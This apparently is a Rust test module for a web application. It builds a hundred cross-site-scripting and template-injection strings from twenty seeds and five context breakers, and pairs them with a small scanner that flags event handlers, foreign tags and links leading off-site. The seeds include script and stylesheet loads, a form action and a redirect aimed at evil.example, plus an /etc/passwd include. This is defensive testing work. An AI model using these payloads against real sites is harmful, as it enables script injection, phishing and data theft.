//! Hostile strings, and what is active in a page: a reader of markup by the rules of browsers, as far
//! as tags and attributes go.

/// What tries to become markup.
const SEEDS: [&str; 20] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Entrar</button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<video src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}<img src=x onerror=alert(1)>",
];

/// What ends what it may stand in.
const BREAKS: [&str; 5] = [
    "",
    "\"'>",
    "</title></script></style></textarea>",
    "--></svg>",
    "' autofocus onfocus=alert(1) x='",
];

/// A hundred of them.
pub fn strings() -> Vec<String> {
    SEEDS.iter().flat_map(|seed| BREAKS.iter().map(move |end| format!("{end}{seed}"))).collect()
}

/// Elements that no page of ours has.
const FOREIGN: [&str; 14] = [
    "img", "iframe", "object", "embed", "base", "math", "video", "audio", "style", "template",
    "frame", "portal", "animate", "mi",
];

/// A tag with its attributes.
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// The tags of a page; comments are passed over.
fn tags(html: &str) -> Vec<Tag> {
    let (mut tags, mut rest) = (Vec::new(), html);
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let end = rest
            .find(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..end].to_ascii_lowercase();
        let (attributes, left) = attributes(&rest[end..]);
        tags.push(Tag { name, attributes });
        rest = left;
    }
    tags
}

fn attributes(text: &str) -> (Vec<(String, String)>, &str) {
    let (mut found, mut rest) = (Vec::new(), text);
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return (found, rest);
        }
        let stop = |c: char| c.is_ascii_whitespace() || matches!(c, '>' | '/' | '=');
        let end = rest[1..].find(stop).map_or(rest.len(), |end| end + 1);
        let name = rest[..end].to_ascii_lowercase();
        rest = rest[end..].trim_start();
        let Some(value) = rest.strip_prefix('=') else {
            found.push((name, String::new()));
            continue;
        };
        let value = value.trim_start();
        let (value, left) = match value.chars().next() {
            Some(quote @ ('"' | '\'')) => value[1..].split_once(quote).unwrap_or((&value[1..], "")),
            _ => {
                let end = value.find(|c: char| c.is_ascii_whitespace() || c == '>');
                value.split_at(end.unwrap_or(value.len()))
            }
        };
        found.push((name, value.replace("&#x2f;", "/")));
        rest = left;
    }
}

/// What could act in a page that is not ours.
pub fn active(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in tags(html) {
        if FOREIGN.contains(&tag.name.as_str()) {
            found.push(format!("<{}>", tag.name));
        }
        if tag.name == "script"
            && !tag.attributes.iter().any(|(n, v)| n == "src" && v.starts_with("/vex-"))
        {
            found.push("a script in the page".to_owned());
        }
        for (name, value) in &tag.attributes {
            let leads_out = ["href", "src", "action", "formaction", "data", "xlink:href"]
                .contains(&name.as_str())
                && !value.is_empty()
                && (!value.starts_with('/') || value.starts_with("//"))
                && !["#", "?", "data:,"].iter().any(|own| value.starts_with(own));
            if name.starts_with("on") || name == "style" || name == "srcdoc" || leads_out {
                found.push(format!("<{} {name}={value:?}>", tag.name));
            }
        }
    }
    found
}

#[test]
fn what_is_active_is_seen() {
    assert_eq!(strings().len(), 100);
    for text in SEEDS.iter().filter(|s| !s.starts_with("javascript") && !s.contains("refresh")) {
        assert_ne!(active(text), Vec::<String>::new(), "{text}");
    }
    let own =
        "<script src=\"/vex-1.js\" defer></script><a href=\"/backups\">&lt;img onerror=x&gt;</a>";
    assert_eq!(active(own), Vec::<String>::new());
}
